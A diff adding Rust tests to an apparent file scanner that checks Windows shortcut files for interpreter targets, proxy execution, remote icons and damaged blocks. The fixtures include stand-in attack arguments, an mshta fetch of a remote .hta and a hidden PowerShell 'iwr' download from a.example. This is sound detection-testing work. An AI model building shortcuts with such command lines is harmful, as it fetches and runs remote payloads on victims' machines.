@@ -8,6 +8,22 @@ fn counted(text: &str) -> Vec<u8> {
     bytes
 }
 
+/// A block behind the strings.
+fn block(signature: u32, body: &[u8]) -> Vec<u8> {
+    let mut bytes = (body.len() as u32 + 8).to_le_bytes().to_vec();
+    bytes.extend(signature.to_le_bytes());
+    bytes.extend(body);
+    bytes
+}
+
+/// A shortcut with blocks before its end.
+fn with_blocks(mut bytes: Vec<u8>, blocks: &[Vec<u8>]) -> Vec<u8> {
+    bytes.truncate(bytes.len() - 4);
+    bytes.extend(blocks.concat());
+    bytes.extend([0; 4]);
+    bytes
+}
+
 /// A shortcut with a relative path, arguments and an icon.
 fn shortcut(program: &str, arguments: &str, icon: &str, show: u32) -> Vec<u8> {
     let mut bytes = b"\x4C\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46".to_vec();
@@ -89,6 +105,72 @@ fn a_file_behind_a_shortcut_is_read() {
     let report = read(&bytes);
     assert!(has(&report, "files.behind-shortcut"));
     assert_eq!(report.children.len(), 1);
+}
+
+#[test]
+fn each_of_several_targets_is_read() {
+    let mut path = b"%ComSpec%".to_vec();
+    path.resize(260 + 520, 0);
+    let plain = shortcut("a.pdf", "/c mshta http://a.example/x.hta", "", 1);
+    let report = read(&with_blocks(plain, &[block(0xA000_0001, &path)]));
+    assert!(
+        has(&report, "files.shortcut-interpreter"),
+        "{:?}",
+        report.findings
+    );
+    assert!(has(&report, "files.shortcut-targets"));
+    assert!(has(&report, "script.proxy"));
+}
+
+#[test]
+fn a_target_in_the_property_store_is_read() {
+    // System.Link.TargetParsingPath: a text of UTF-16.
+    let path: Vec<u8> = "powershell.exe\0"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let mut value = vec![2, 0, 0, 0, 0, 0x1F, 0, 0, 0, 15, 0, 0, 0];
+    value.extend(path);
+    let mut store = b"1SPS\xFC\xB3\xB4\xB9\x51\x2B\x42\x4A\xB5\xD8\x32\x41\x46\xAF\xCF\x25".to_vec();
+    store.extend((value.len() as u32 + 4).to_le_bytes());
+    store.extend(value);
+    store.extend([0; 4]);
+    let store = [&(store.len() as u32 + 4).to_le_bytes()[..], &store, &[0; 4]].concat();
+    let plain = shortcut("", "-w hidden -c iwr http://a.example/x", "", 1);
+    let report = read(&with_blocks(plain, &[block(0xA000_0009, &store)]));
+    assert!(
+        has(&report, "files.shortcut-interpreter"),
+        "{:?}",
+        report.findings
+    );
+    let cut = with_blocks(shortcut("a.exe", "", "", 1), &[block(0xA000_0009, &store[..40])]);
+    assert_eq!(read(&cut).verdict(), Verdict::NotCleared);
+}
+
+#[test]
+fn an_icon_of_another_machine_is_told() {
+    let elsewhere = read(&shortcut("a.exe", "", "\\\\192.0.2.7\\s\\a.ico", 1));
+    assert!(has(&elsewhere, "files.shortcut-icon-elsewhere"));
+    let same = read(&shortcut(
+        "\\\\h.example\\s\\a.exe",
+        "",
+        "\\\\h.example\\s\\a.ico",
+        1,
+    ));
+    assert!(!has(&same, "files.shortcut-icon-elsewhere"));
+}
+
+#[test]
+fn what_stands_behind_a_damaged_block_is_looked_at() {
+    let damaged = |tail: &[u8]| {
+        let mut bytes = shortcut("a.exe", "x", "", 1);
+        bytes.truncate(bytes.len() - 4);
+        bytes.extend([&[0xFF; 4][..], tail].concat());
+        read(&bytes)
+    };
+    assert_eq!(damaged(&[7; 2000]).verdict(), Verdict::NotCleared);
+    assert!(has(&damaged(b"....{\\rtf1 x}%PDF-1.4 "), "files.behind-shortcut"));
+    assert_eq!(damaged(&[7; 20]).verdict(), Verdict::Clean);
 }
 
 #[test]
